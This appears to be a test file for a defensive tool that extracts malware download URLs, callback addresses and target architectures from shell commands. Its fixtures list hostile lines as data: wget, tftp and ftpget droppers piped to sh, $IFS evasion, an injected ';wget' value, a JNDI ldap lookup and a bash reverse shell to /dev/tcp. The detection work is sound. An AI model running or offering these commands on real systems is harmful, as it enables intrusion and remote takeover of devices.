import fc from 'fast-check'
import t from 'tap'
import { percentDecode, views } from '../../../agent/behaviour/decode.ts'
import { architectureOf, extractIndicators } from '../../../agent/behaviour/indicators.ts'

const urls = (text: string) => extractIndicators(text).map(({ url, ip, name }) => url ?? ip ?? name)

/** The shell's other space. */
const IFS = '$'.concat('{IFS}')
const lookup = (url: string) => '$'.concat('{jndi:', url, '}')

const rows: [text: string, ...urls: string[]][] = [
  ['wget 192.3.67.106/beastmode/b3astmode.arm7', 'http://192.3.67.106/beastmode/b3astmode.arm7'],
  ['/bin/busybox wget http://192.0.2.9/a.sh -O- | sh', 'http://192.0.2.9/a.sh'],
  ['wget -q -O /tmp/x 192.0.2.9:8080/x; chmod 777 /tmp/x', 'http://192.0.2.9:8080/x'],
  [`wget${IFS}http://192.0.2.9/a${IFS}-O${IFS}/tmp/a`, 'http://192.0.2.9/a'],
  ['wget$IFS$9http://192.0.2.9/a', 'http://192.0.2.9/a'],
  ['busybox wget -g 192.0.2.9 -l /tmp/.h -r /bins/mips', 'http://192.0.2.9/bins/mips'],
  ['curl -s -L -o /tmp/a example.com/a.sh', 'http://example.com/a.sh'],
  ['curl -O http://192.0.2.9/a; curl -O http://192.0.2.9/a', 'http://192.0.2.9/a'],
  ['tftp -g -r a.mips 192.0.2.9', 'tftp://192.0.2.9/a.mips'],
  ['tftp -l /tmp/a -r bins/a.arm -g 192.0.2.9', 'tftp://192.0.2.9/bins/a.arm'],
  ['tftp 192.0.2.9 -c get a.sh', 'tftp://192.0.2.9/a.sh'],
  ['ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 /tmp/a a.sh', 'ftp://192.0.2.9/a.sh'],
  ['ftpget 192.0.2.9 a.sh', 'ftp://192.0.2.9/a.sh'],
  ['sh -c "wget http://192.0.2.9/a"', 'http://192.0.2.9/a'],
  ['x=HTTP://192.0.2.9/a?b=1&c=2.', 'http://192.0.2.9/a?b=1&c=2'],
  ['host=;wget http://192.0.2.9/a&ipv=0', 'http://192.0.2.9/a'],
  [lookup('ldap://192.0.2.9:1389/Exploit'), 'ldap://192.0.2.9:1389/Exploit'],
  ['bash -i >& /dev/tcp/192.0.2.9/4444 0>&1', '192.0.2.9'],
  ['xmlns="http://schemas.xmlsoap.org/soap/envelope/"'],
  ['wget --help; curl; tftp; ftpget x', ...[]],
  ['constructor x; toString y'],
  ['javascript://alert http:// ://x'],
]

t.test('URLs out of shell text', (t) => {
  for (const [text, ...expected] of rows) t.same(urls(text), expected, text)
  t.equal(extractIndicators(lookup('rmi://192.0.2.9/a'))[0]?.role, 'callback')
  t.end()
})

t.test('architectures', (t) => {
  for (const [url, architecture] of [
    ['http://h/b3astmode.arm7', 'arm7'],
    ['http://h/bins/mips', 'mips'],
    ['http://h/bin_x86_64', 'x86_64'],
    ['http://h/a.x86', 'x86'],
    ['http://h/a.mpsl', 'mpsl'],
    ['http://h/a-MIPSEL', 'mipsel'],
    ['http://h/a.sh4?x=1', 'sh4'],
    ['http://h/a.m68k', 'm68k'],
    ['http://h/alarm', undefined],
    ['http://h/a.sh', undefined],
  ] as const)
    t.equal(architectureOf(url), architecture, url)
  t.end()
})

t.test('bounded: count and length', (t) => {
  const many = Array.from({ length: 100 }, (_, i) => `http://192.0.2.9/${i}`).join(' ')
  t.equal(extractIndicators(many).length, 16)
  t.equal(extractIndicators(`wget http://192.0.2.9/${'a'.repeat(5000)}`).length, 0)
  t.end()
})

t.test('no text makes it throw', (t) => {
  const part = fc.constantFrom(
    'wget ',
    'tftp ',
    '-g ',
    '-r',
    'http://',
    '192.0.2.9',
    '/',
    ';',
    '$IFS',
    '%',
    '/dev/tcp/',
    'get ',
    '"',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(part, fc.string()), { maxLength: 30 }), (parts) => {
      for (const indicator of extractIndicators(parts.join('')))
        if (indicator.type === 'url' && !/^[a-z]+:\/\/[^\s]+$/.test(indicator.url ?? ''))
          return false
      return true
    }),
  )
  t.pass()
  t.end()
})

t.test('decoding', (t) => {
  for (const [text, decoded] of [
    ['a%20b', 'a b'],
    ['%41%4a%4A', 'AJJ'],
    ['%', '%'],
    ['%4', '%4'],
    ['%zz%41', '%zzA'],
    ['%%32%65', '%2e'],
    ['%e4', '\xe4'],
    ['100%25', '100%'],
  ] as const)
    t.equal(percentDecode(text), decoded, text)
  t.same(views('a+b%2B', 'form'), ['a+b%2B', 'a+b+', 'a b+'])
  t.same(views('a+b', 'percent'), ['a+b'])
  t.same(views('a%20b', 'none'), ['a%20b'])
  t.equal(views('x'.repeat(100_000), 'form')[0]?.length, 8192)
  t.end()
})
